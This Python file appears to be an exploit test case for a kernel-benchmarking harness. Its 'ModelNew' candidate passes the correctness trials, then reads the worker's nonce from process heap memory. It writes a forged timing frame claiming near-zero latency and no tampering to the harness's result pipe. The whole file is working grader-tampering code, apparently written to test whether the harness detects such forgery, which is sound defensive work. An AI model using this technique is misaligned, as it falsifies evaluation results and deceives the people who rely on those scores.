# Exploit: a timing answer written by the candidate itself. The worker's answers carry a nonce that
# lives in the worker's memory, which the candidate shares: it finds the nonce there and, during the
# timing, writes a well-formed answer with hundreds of fast samples to the result pipe, ahead of the
# worker's. The parent takes timing only from calls it saw asked for, started and ended (tampering).
# If the nonce is not found the candidate is merely correct, and the case fails: it must find it.
import ctypes
import fcntl
import json
import os
import re
import struct

import torch
import torch.nn as nn

_pattern = re.compile(rb'"nonce":"([0-9a-f]{32})"')


def _nonce():
    """The nonce from the worker's own heap, read in place (the process's memory is its own; its
    /proc/self/mem is closed to it, the worker being non-dumpable)."""
    with open("/proc/self/maps") as maps:
        regions = [line.split() for line in maps]
    for fields in regions:
        if not fields[1].startswith("rw") or len(fields) < 6 or not fields[5].startswith("[heap"):
            continue
        start, end = (int(x, 16) for x in fields[0].split("-"))
        found = _pattern.search(ctypes.string_at(start, end - start))
        if found:
            return found.group(1).decode()
    return None


def _forge(nonce):
    timing = {"samples": 500, "median_ms": 0.001, "mean_ms": 0.001, "stddev_ms": 0, "min_ms": 0.001,
              "max_ms": 0.001, "rel_spread": 0.0001, "wall_median_ms": 0.001, "score_ms": 0.001,
              "host_median_ms": 0.001, "tail_median_ms": 0, "held": False, "host_bound": False,
              "device_median_ms": 0.001, "device_cost_ms": 0.001, "hold_mechanism": "", "hold_timeouts": 0,
              "empty_wall_ms": 0, "empty_tail_ms": 0, "sm_clock_min_mhz": 0, "sm_clock_max_mhz": 0,
              "throttled_samples": 0, "pinned": False}
    header = json.dumps({"nonce": nonce, "ok": True, "timing": timing, "calls": [], "checked": [],
                         "tampered": []}).encode()
    frame = b"HRW1" + struct.pack("<IQ", len(header), 0) + header
    for name in os.listdir("/proc/self/fd"):
        try:
            fd = int(name)
            if fd > 2 and os.readlink("/proc/self/fd/%d" % fd).startswith("pipe:") and \
                    fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:
                os.write(fd, frame)
        except Exception:
            pass


class ModelNew(nn.Module):
    def __init__(self):
        super().__init__()
        self._calls = 0
        self._forged = False

    def forward(self, x):
        self._calls += 1
        if self._calls > 10 and not self._forged:  # past the correctness trials: being timed
            nonce = _nonce()
            if nonce:
                _forge(nonce)
                self._forged = True
        return torch.relu(x)
